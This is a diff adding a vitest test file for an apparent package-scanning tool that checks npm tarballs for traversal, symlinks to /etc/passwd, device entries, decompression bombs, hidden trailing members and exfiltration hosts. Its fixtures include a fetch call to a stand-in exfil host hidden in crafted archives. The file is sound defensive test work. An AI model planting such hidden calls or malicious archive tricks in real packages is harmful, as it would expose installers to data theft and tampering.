@@ -1,0 +1,136 @@
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { gzipSync } from 'node:zlib';
+import { type AnalysisResult, analysisResultSchema } from '@weir/model';
+import { tarball } from '@weir/testkit/archive';
+import { describe, expect, test } from 'vitest';
+import { analyzeFile } from './analyze-file.ts';
+import { createMemoryView } from './memory-view.ts';
+import { scanUnread } from './unread-scan.ts';
+
+const MANIFEST = '{"name":"x","version":"1.0.0","main":"a.js"}';
+const HIDDEN = `fetch('https://exfil.weir.test/collect');`;
+
+async function analyze(bytes: Buffer): Promise<AnalysisResult> {
+  const directory = await mkdtemp(join(tmpdir(), 'weir-analysis-test-'));
+  try {
+    const path = join(directory, 'x.tgz');
+    await writeFile(path, bytes);
+    const result = await analyzeFile(
+      { path, filename: 'x.tgz', ecosystem: 'npm' },
+      { rulesetVersion: 'test', now: () => performance.now() },
+    );
+    expect(analysisResultSchema.safeParse(result).error).toBeUndefined();
+    return result;
+  } finally {
+    await rm(directory, { recursive: true, force: true });
+  }
+}
+
+function rulesOf(result: AnalysisResult): string[] {
+  return [...new Set(result.findings.map(({ rule }) => rule))].toSorted();
+}
+
+function honest(): ReturnType<typeof tarball> {
+  return tarball().file('package/package.json', MANIFEST).file('package/a.js', 'module.exports = 1;');
+}
+
+describe('what is wrong with a container', () => {
+  test('is nothing in an honest one', async () => {
+    const result = await analyze(honest().build());
+
+    expect([result.judgement.verdict, result.findings, result.skipped]).toEqual(['benign', [], []]);
+  });
+
+  test.each([
+    ['traversal', honest().traversal()],
+    ['link', honest().symlink('package/l', '/etc/passwd')],
+    ['device', honest().device('package/d')],
+    ['duplicate-path', honest().file('package/a.js', 'other')],
+    ['case-collision', honest().file('package/A.js', 'other')],
+  ])('is a finding: %s', async (code, builder) => {
+    const result = await analyze(builder.build());
+
+    expect(rulesOf(result)).toEqual([`analysis/archive-${code}`]);
+    expect([result.judgement.complete, result.skipped]).toEqual([true, []]);
+  });
+
+  test('leaves the verdict open where readers disagree or something was left unread', async () => {
+    const hidden = tarball().file('package/b.js', HIDDEN).build({ gzip: false });
+    const behindEnd = await analyze(honest().raw(Buffer.alloc(1024)).raw(hidden).build());
+    const cut = await analyze(honest().file('package/b.js', 'x'.repeat(9000)).build().subarray(0, -60));
+
+    expect(rulesOf(behindEnd)).toEqual([
+      'analysis/archive-hidden-member',
+      'analysis/archive-trailing-data',
+      'analysis/unread-exfil-host',
+    ]);
+    for (const { judgement } of [behindEnd, cut]) {
+      expect([judgement.verdict, judgement.complete]).not.toEqual(['benign', true]);
+    }
+  });
+
+  test('is listed with what a bomb hides, and looked through', async () => {
+    const result = await analyze(
+      honest()
+        .bomb(2 ** 28)
+        .file('package/b.js', HIDDEN)
+        .build(),
+    );
+
+    expect(rulesOf(result)).toEqual(['analysis/archive-budget-ratio', 'analysis/unread-exfil-host']);
+    expect(result.skipped).toMatchObject([{ file: 'package/zeros.bin', reason: 'budget-ratio' }, {}]);
+    expect(result.findings.flatMap(({ indicators }) => indicators)).toContainEqual({
+      type: 'url',
+      value: 'https://exfil.weir.test/collect',
+    });
+    expect(result.judgement.verdict).not.toBe('benign');
+  });
+
+  test('is told of a manifest that was left unread', async () => {
+    const result = await analyze(
+      tarball()
+        .bomb(2 ** 28)
+        .file('package/package.json', MANIFEST)
+        .build(),
+    );
+
+    expect(result.judgement.verdict).toBe('inconclusive');
+  });
+});
+
+describe('the scan of what was left unread', () => {
+  test('finds addresses that lie across chunks, and keeps streams apart', async () => {
+    const cut = HIDDEN.indexOf('weir');
+    const chunk = (offset: number, text: string) => ({
+      layer: 'unpacked' as const,
+      offset,
+      path: null,
+      bytes: Buffer.from(text),
+    });
+    const viewOf = (second: number) => ({
+      ...createMemoryView({}),
+      linear: () => ({
+        complete: false,
+        async *[Symbol.asyncIterator]() {
+          yield chunk(1, HIDDEN.slice(0, cut));
+          yield chunk(second, HIDDEN.slice(cut));
+        },
+      }),
+    });
+
+    const whole = await scanUnread(viewOf(1));
+    const apart = await scanUnread(viewOf(2));
+
+    expect([whole.findings.length, whole.complete]).toEqual([1, false]);
+    expect(apart.findings).toEqual([]);
+  });
+
+  test('tells of at most 20 hosts, whatever a file names', async () => {
+    const names = Array.from({ length: 500 }, (_, i) => `https://h${i}.exfil.weir.test/`).join(' ');
+    const result = await analyze(Buffer.concat([honest().build(), gzipSync(names)]).subarray(0, -1));
+
+    expect(result.findings.filter(({ rule }) => rule === 'analysis/unread-exfil-host')).toHaveLength(20);
+  });
+});
